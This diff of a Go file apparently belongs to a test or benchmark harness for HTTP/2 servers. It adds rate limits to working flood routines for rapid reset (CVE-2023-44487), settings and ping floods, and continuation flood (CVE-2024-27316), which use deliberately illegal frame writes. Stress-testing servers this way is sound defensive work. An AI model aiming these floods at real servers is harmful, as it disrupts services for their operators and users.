@@ -18,11 +18,15 @@ import (
 const (
 	floodConnections = 4
 	framesPerFlush   = 50
+	// Frames a second: what a server does for each is very different. More would measure how the clients and the two
+	// servers share the processors.
+	streamRate       = 20_000
+	frameRate        = 100_000
+	continuationRate = 20_000
 )
 
-// flood opens HTTP/2 connections and sends frames as fast as it can. next writes a few frames; n counts from 0 on each
-// connection.
-func (c *client) flood(ctx context.Context, next func(f *http2.Framer, n uint32) error) {
+// flood opens HTTP/2 connections and has next write frames at a rate; n counts from 0 on each connection.
+func (c *client) flood(ctx context.Context, rate int, next func(f *http2.Framer, n uint32) error) {
 	c.loop(ctx, floodConnections, 10*time.Millisecond, func(int) error {
 		conn, err := c.dial(ctx, rudeAddress)
 		if err != nil {
@@ -41,10 +45,13 @@ func (c *client) flood(ctx context.Context, next func(f *http2.Framer, n uint32)
 		framer := http2.NewFramer(w, nil)
 		framer.AllowIllegalWrites = true
 		err = framer.WriteSettings()
+		gap := time.NewTicker(floodConnections * framesPerFlush * time.Second / time.Duration(rate))
+		defer gap.Stop()
 		for n := uint32(0); err == nil && ctx.Err() == nil; n++ {
 			if err = next(framer, n); err == nil && n%framesPerFlush == 0 {
 				err = w.Flush()
 				c.count("flushes of 50")
+				<-gap.C
 			}
 		}
 		if ctx.Err() == nil {
@@ -69,7 +76,7 @@ func headerBlock() []byte {
 
 // rapidReset opens streams and resets them at once (CVE-2023-44487).
 func rapidReset(ctx context.Context, c *client) {
-	c.flood(ctx, func(f *http2.Framer, n uint32) error {
+	c.flood(ctx, streamRate, func(f *http2.Framer, n uint32) error {
 		stream := 2*n + 1
 		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: headerBlock(), EndHeaders: true}); err != nil {
 			return err
@@ -79,20 +86,20 @@ func rapidReset(ctx context.Context, c *client) {
 }
 
 func settingsFlood(ctx context.Context, c *client) {
-	c.flood(ctx, func(f *http2.Framer, n uint32) error {
+	c.flood(ctx, frameRate, func(f *http2.Framer, n uint32) error {
 		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + n%2}, http2.Setting{ID: http2.SettingHeaderTableSize, Val: n % 4096})
 	})
 }
 
 func pingFlood(ctx context.Context, c *client) {
-	c.flood(ctx, func(f *http2.Framer, n uint32) error { return f.WritePing(false, [8]byte{byte(n)}) })
+	c.flood(ctx, frameRate, func(f *http2.Framer, n uint32) error { return f.WritePing(false, [8]byte{byte(n)}) })
 }
 
 // continuationFlood sends a header that does not end (CVE-2024-27316).
 func continuationFlood(ctx context.Context, c *client) {
 	var filler bytes.Buffer
 	_ = hpack.NewEncoder(&filler).WriteField(hpack.HeaderField{Name: "x-filler", Value: strings.Repeat("a", 1000), Sensitive: true})
-	c.flood(ctx, func(f *http2.Framer, n uint32) error {
+	c.flood(ctx, continuationRate, func(f *http2.Framer, n uint32) error {
 		if n == 0 {
 			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headerBlock()})
 		}
